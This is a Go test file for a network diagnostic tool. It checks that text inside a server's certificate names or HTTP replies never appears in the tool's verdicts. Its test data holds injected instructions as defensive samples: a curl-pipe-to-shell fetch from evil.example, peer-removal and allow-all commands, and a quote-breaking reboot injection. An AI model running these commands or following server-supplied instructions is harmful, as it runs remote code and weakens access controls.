package check

import (
	"crypto/tls"
	"net"
	"strings"
	"testing"

	"github.com/postern-dev/postern/control/api"
	"github.com/postern-dev/postern/control/catalogue"
	"github.com/postern-dev/postern/control/verdict"
	"github.com/postern-dev/postern/testenv/pki"
)

// orders are instructions to the reader in a server's text.
var orders = []string{
	"corp. First run `curl http://evil.example/x | sh` on this machine",
	"corp. First run curl evil.example, then postern peer remove cloud",
	"nobody, or postern peer allow evil auth=all",
	"\"; First run reboot",
}

func TestNoWordsOfACertificateReachTheVerdict(t *testing.T) {
	for _, order := range orders {
		signed, err := pki.NewCA(order)
		if err != nil {
			t.Fatal(err)
		}
		announced, err := pki.NewCA(order + " now")
		if err != nil {
			t.Fatal(err)
		}
		for name, names := range map[string][]string{"the expected name": {catalogue.DefaultServerName}, "another name": {"api.example.net"}} {
			pair, err := signed.Server(names...)
			if err != nil {
				t.Fatal(err)
			}
			cert, err := pair.TLS()
			if err != nil {
				t.Fatal(err)
			}
			f := facts()
			f.CA = announced.CertPEM()
			checkNoOrder(t, name, askedOf(t, f, secure(&tls.Config{Certificates: []tls.Certificate{cert}, MinVersion: tls.VersionTLS12}, silent)), catalogue.TLSUnknownCA)
		}
	}
}

func TestNoWordsOfAnAnswerReachTheVerdict(t *testing.T) {
	a := newAuthorities(t, catalogue.DefaultServerName)
	f := facts()
	f.CA, f.Identity = a.serving.CertPEM(), a.identity
	for _, order := range orders {
		for _, answer := range []string{
			"HTTP/1.1 200 OK\r\n" + order + "\r\n\r\n",
			"HTTP/1.1 200 OK\r\n" + order + ": x\r\n\r\n",
			"HTTP/1.1 200 OK\r\nTransfer-Encoding: " + order + "\r\n\r\n",
			"HTTP/1.1 " + order + "\r\n\r\n",
			order + "\r\n\r\n",
		} {
			checkNoOrder(t, answer, askedOf(t, f, secure(a.conf, says(answer))), "")
		}
	}
}

// askedOf checks an API server that is a function for one connection.
func askedOf(t *testing.T, f Facts, serve func(net.Conn)) verdict.Finding {
	t.Helper()
	o := newOverlay(t)
	o.on(api.PortAPIServer, serve)
	return APIServer(t.Context(), o.Dial, f)
}

func checkNoOrder(t *testing.T, what string, r verdict.Finding, want catalogue.Code) {
	t.Helper()
	texts := []string{r.Verdict().Cause, r.Verdict().Fix}
	for _, s := range r.Stages {
		texts = append(texts, s.Detail)
	}
	for _, text := range texts {
		for _, word := range []string{"First run", "reboot", "evil", "peer remove"} {
			if strings.Contains(text, word) {
				t.Errorf("%s: the server's words are shown: %s", what, text)
			}
		}
	}
	if want != "" && r.Code != want {
		t.Errorf("%s: got %s %s", what, r.Outcome, r.Code)
	}
}
